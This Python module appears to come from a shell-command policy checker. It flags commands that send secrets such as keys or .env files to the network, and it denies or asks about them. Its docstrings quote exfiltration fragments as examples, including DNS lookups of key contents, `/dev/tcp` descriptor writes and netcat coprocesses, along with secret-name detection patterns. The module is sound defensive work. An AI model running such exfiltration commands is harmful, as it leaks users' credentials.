"""`structural/secret-to-network`: a credential reaches a program that sends.

It may get there by a pipe, a substitution, a variable (`K=$(cat key)`), a file that the
same text makes of it (`cp .env x`), a commit that is pushed, an image or a package, or by a
name (`-F f=@.env`, `put .env`).  A key that a program only uses to log in (`ssh -i key`) is
not sent, nor is one value of a file of settings that goes as the header it is for: both
ask, as does what goes to this machine itself.  How a secret travels inside a text stands in
`carried.py` and `takes.py`, how it leaves in `leaves.py`, which programs send and how they
are given it in `senders.py` and `sent.py`.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Iterable

from aileron.policy import chosen, leaves, paths, programs, senders, sent, written
from aileron.policy.carried import Carried, outside
from aileron.policy.finding import Finding, ask, deny
from aileron.policy.printed import KEY_NAMES, VARIABLE, is_as_header, is_call, is_its_own, prints
from aileron.policy.senders import Sender
from aileron.policy.shape import Shape
from aileron.policy.tables import names
from aileron.shell.reading import Redirect

RULE = "structural/secret-to-network"
_SECRET_NAME = re.compile(r"SECRET|TOKEN|PASSW|KEY|DATABASE_URL|DSN|CREDENTIAL")
_BODY = names("-d --data --data-raw --data-binary --data-urlencode -F --form --json --post-data")
_OPENS_DOORS = re.compile(r"\.(?:pem|key|p12|pfx|crt)$")
_COPROCESS = re.compile(r"[\"']?\$\{\w+\[1\]\}")


class Secrets(Carried):
    """Which commands of one text send a secret, and which."""

    def judge(self, index: int) -> Iterable[Finding]:
        shape = self.shapes[index]
        if not leaves.sends(shape):
            return
        secret = self._told(index) or self._sent(index)
        sender = senders.of(shape)
        if sender and is_as_header(shape) and self._is_one_value(index, shape.command.words):
            secret = self._named(index, sender)  # beside what it logs in with
        if secret and not is_its_own(secret, shape):
            yield deny(RULE, f"{shape.name or 'a redirection'} would send {secret}")
        given = self._handed_over(index, sender) if sender and not secret else ""
        if given:
            why = f"{shape.name} would give {given} to a server of this machine"
            yield ask("effect/credential", why, firm=True)

    def _told(self, index: int) -> str:
        """The secret in an address that a program is given."""
        shape = self.shapes[index]
        for word in leaves.told(shape):
            words = [word]
            found = self._spoken(shape, words)
            if not found and word.dynamic & {"command"}:
                found = self._first(self.flows.substituted(index))
            single = self._is_one_value(index, words)
            if leaves.logs_in(word) or "://" not in word.source:
                found = "" if single else found
            keys = [name for name in VARIABLE.findall(word.source) if KEY_NAMES.fullmatch(name)]
            if not found and keys and not leaves.logs_in(word):
                found = f"${keys[0]}"
            if found:
                return found
        return ""

    def _sent(self, index: int) -> str:
        shape = self.shapes[index]
        if is_call(shape, "git", "push"):
            words = [] if any(leaves.told(shape)) else shape.command.words
            by_name = self._first(self.flows.substituted(index)) if words else ""
            by_name = by_name or self._spoken(shape, words)
            return self.staged or ("" if self._is_one_value(index, words) else by_name)
        if any(is_call(shape, *one) for one in leaves.PUSHES):
            return self.packed
        sender = senders.of(shape)
        if any(is_call(shape, *one) for one in leaves.PUBLISHES) and (
            sender is None or self._made_here()
        ):
            return self._made_here()
        if sender is not None and not leaves.is_connected(shape):
            return self._handed_over(index, sender) if sent.goes_elsewhere(shape, sender) else ""
        known = leaves.is_connected(shape) or leaves.is_session(shape)
        if not (known or programs.sends(shape.command)):
            return ""  # it only is told an address
        secret = self._reaching(index) or self._spoken(shape, shape.command.words)
        own = "" if self.own[index] == prints(shape) else self.own[index]
        if programs.sends(shape.command) and _OPENS_DOORS.search(own):
            own = ""  # `https.get({key})`: `signs/` tells whether it is sent
        return secret or self._in_loop(shape) or own or self._through_descriptor(shape)

    def _handed_over(self, index: int, sender: Sender) -> str:
        """The secret that a sender is given, in any of the ways that it takes."""
        shape = self.shapes[index]
        words = shape.command.words
        if sender.hosts or sender.operands:  # where a password in the words only logs in
            words = tuple(word for word, _ in sent.given(shape, sender))
            if sender.hosts and self._is_one_value(index, shape.command.words):
                words = tuple(
                    word
                    for before, word in itertools.pairwise(shape.command.words)
                    if word in words
                    and before.value not in sender.hosts
                    and not leaves.logs_in(word)
                )
        made = any(word.dynamic & {"command", "process"} for word in words)
        secret = self._reaching(index, words=made) or self._spoken(shape, words)
        given = [word for word, _ in sent.given(shape, sender)]
        lists = shape.command.appended or any("command" in word.dynamic for word in given)
        secret = secret or self._in_loop(shape) or self._opened(shape)
        secret = secret or (self._listed(index, reads=True) if lists else "")
        secret = secret or self._by_coprocess(shape)
        own = "" if self.own[index] == prints(shape) else self.own[index]
        return secret or self._named(index, sender) or own or self._keys(shape)

    def _named(self, index: int, sender: Sender) -> str:
        """The secret in a file whose name a sender is given."""
        shape = self.shapes[index]
        fed = [self.shapes[at] for at in sorted(self.flows.sources(index))]

        def text_of(path: str) -> str:
            found = written.literal(self.shapes, path, index, self.facts)
            if found is not None:
                return found[1]
            return next((sent.said_by(one) for one in self.shapes[:index] if _into(path, one)), "")

        def _into(path: str, one: Shape) -> bool:
            into = [item.target for item in one.command.redirects if item.op[0] == ">"]
            return any(path in paths.all_of_word(to, one.cwds, self.facts) for to in into)

        for path in sent.files(shape, sender, fed, self.facts, text_of):
            held = self._held(outside(path, shape), whole=sender.operands and not sender.hosts)
            if held:
                return held
        if sender.copies:
            read = [one.target for one in shape.command.redirects if one.op == "<"]
            found = [p for one in read for p in paths.all_of_word(one, shape.cwds, self.facts)]
            return next(filter(None, map(self._held, found)), "")
        return ""

    def _in_loop(self, shape: Shape) -> str:
        """`for l in $(cat key); do dig "$l.example"`: what the loop goes through is sent."""
        if not shape.command.loop or all(word.value is not None for word in shape.command.words):
            return ""
        for word in shape.command.words if self.lists else ():
            if any(name not in self.variables for name in VARIABLE.findall(word.source)):
                return next(iter(self.lists.values()))
        for at, one in enumerate(self.shapes):
            if one.command.substituted and not one.command.loop:
                before = [self.shapes[by] for by in self.flows.sources(at)]
                secret = self.own[at] or chosen.because_secret(one, before)
                every = range(len(self.shapes))
                if secret and not any(at in self.flows.substituted(by) for by in every):
                    return secret
        return ""

    def _keys(self, shape: Shape) -> str:
        """A well-known key in what curl sends, other than as the header that it is for."""
        words = shape.command.words
        for before, word in itertools.pairwise(words):
            body = (before.value or "") in _BODY or "://" in word.source
            for name in VARIABLE.findall(word.source) if body and word.value is None else ():
                if KEY_NAMES.fullmatch(name) or (self.loaded and _SECRET_NAME.search(name)):
                    return f"${name}"
        return ""

    def _through_descriptor(self, shape: Shape) -> str:
        """`exec 3<>/dev/tcp/…; cat key >&3`."""
        if not leaves.is_connected(shape) or shape.name != "exec":
            return ""
        return self._written_to(lambda one: one.op == ">&")

    def _by_coprocess(self, shape: Shape) -> str:
        """`coproc nc x 80; cat key >&"${COPROC[1]}"`."""
        if shape.command.feeds != "pipe":
            return ""
        return self._written_to(lambda one: _COPROCESS.match(one.target.source) is not None)

    def _written_to(self, wanted: Callable[[Redirect], bool]) -> str:
        """The secret that a command writes where it is `wanted`."""
        for at, one in enumerate(self.shapes):
            if any(wanted(item) for item in one.command.redirects):
                secret = self.own[at] or self._reaching(at)
                if secret:
                    return secret
        return ""
